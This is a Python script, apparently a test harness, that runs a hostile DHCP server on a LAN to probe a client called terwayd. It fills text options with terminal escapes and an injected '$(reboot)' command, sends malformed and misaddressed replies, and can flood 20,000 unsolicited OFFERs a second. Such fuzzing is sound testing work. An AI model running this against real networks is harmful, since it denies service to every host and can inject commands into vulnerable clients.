"""A DHCP server that means harm: `python3 -IS hostile.py words|wrong|flood ADDRESS`, in a machine whose eth0 is on the LAN.

`words` gives leases with all that may be harmful where text belongs, and refuses every renewal with more of it;
`wrong` answers for other clients, and with what is no message at all; `flood` sends twenty thousand OFFERs a second
that nobody asked for, to all.  It has its own idea of DHCP: nothing of terwayd.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Iterator
from pathlib import Path

WORDS = b"\x1b]0;owned\x07\x1b[2J$(reboot)`'\";\r\n\0\x9b31m\xff\xe2\x80\xae{}[red]%s"
TEXTS = (12, 14, 15, 17, 40, 43, 47, 60, 64, 66, 67, 81, 86, 88, 100, 101, 114, 119, 209, 210, 252)
OFFER, ACK, NAK = 2, 5, 6
RATE = 20_000


def reply(asked: bytes, kind: int, server: bytes, more: bytes = b"", **changes: bytes) -> bytes:
    """A BOOTP reply to `asked`: fixed fields, then options."""
    ip = b"\0" * 4 if kind == NAK else changes.get("ip", server[:3] + b"\x42")
    head = bytes((2, 1, 6, 0)) + changes.get("xid", asked[4:8]) + bytes(8) + ip + bytes(8)
    head += changes.get("mac", asked[28:34]) + bytes(10) + bytes(192) + b"\x63\x82\x53\x63"
    options = bytes((53, 1, kind, 54, 4)) + server
    if kind != NAK:  # ten seconds, T1 after five
        options += struct.pack("!BBIBBIBB4s", 51, 4, 10, 58, 4, 5, 1, 4, b"\xff\xff\xff\0")
    return head + options + more + b"\xff"


def option(code: int, value: bytes) -> bytes:
    return bytes((code, len(value))) + value


def kind_of(asked: bytes) -> int:
    at = 240
    while at + 2 < len(asked) and asked[at] != 255:
        if asked[at] == 53:
            return asked[at + 2]
        at += 2 + asked[at + 1] if asked[at] else 1
    return 0


REFUSED: set[bytes] = set()


def words(asked: bytes, server: bytes) -> Iterator[bytes]:
    """Who has an address and wants to keep it is refused, and not answered any more."""
    more = b"".join(option(code, WORDS) for code in TEXTS) + option(56, WORDS)
    if asked[28:34] in REFUSED:
        return
    if kind_of(asked) == 1:
        yield reply(asked, OFFER, server, more)
    elif kind_of(asked) == 3 and not any(asked[12:16]):
        yield reply(asked, ACK, server, more)
    elif kind_of(asked) == 3:
        REFUSED.add(asked[28:34])
        yield reply(asked, NAK, server, option(56, WORDS))


def wrong(asked: bytes, server: bytes) -> Iterator[bytes]:
    for kind in (OFFER, ACK, NAK):
        yield reply(asked, kind, server, mac=b"\x02\0\0\0\0\x99")
        yield reply(asked, kind, server, xid=bytes(4))
        yield reply(asked, kind, server, option(61, b"\0somebody else"))
    yield reply(asked, OFFER, server, ip=server)
    yield reply(asked, OFFER, server, ip=b"\x7f\0\0\1")
    whole = reply(asked, OFFER, server)
    yield from (
        b"",
        whole[:239],
        whole[:243],
        whole[:-1] + b"\x35",
        whole[:-1] + b"\x34\1\7",
    )


def framed(payload: bytes, to: bytes, mac: bytes, server: bytes) -> bytes:
    header = struct.pack("!HHHBBH4s4s", 28 + len(payload), 0, 0, 64, 17, 0, server, b"\xff" * 4)
    header = b"\x45\0" + header
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    header = header[:10] + struct.pack("!H", 0xFFFF - total) + header[12:]
    return to + mac + b"\x08\0" + header + struct.pack("!HHHH", 67, 68, 8 + len(payload), 0) + payload


def flood(link: socket.socket, mac: bytes, server: bytes) -> None:
    sent, began = 0, time.monotonic()
    while True:
        while sent < (time.monotonic() - began) * RATE:
            xid, whom = (sent * 2654435761 & 0xFFFFFFFF).to_bytes(4, "big"), b"\2" + sent.to_bytes(5, "big")
            asked = bytes(4) + xid + bytes(20) + whom + bytes(202)
            link.send(framed(reply(asked, OFFER, server), b"\xff" * 6, mac, server))
            sent += 1
        time.sleep(0.005)


def main(how: str, address: str) -> None:
    server = socket.inet_aton(address)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    link.bind(("eth0", 0x0800))
    mac = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().replace(":", ""))
    print("serves", flush=True)
    if how == "flood":
        flood(link, mac, server)
    while True:
        frame = link.recv(2048)
        udp = 14 + (frame[14] & 15) * 4
        if frame[23] != 17 or frame[udp + 2 : udp + 4] != b"\0\x43" or len(frame) < udp + 248:
            continue
        for payload in {"words": words, "wrong": wrong}[how](frame[udp + 8 :], server):
            link.send(framed(payload, frame[6:12], mac, server))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
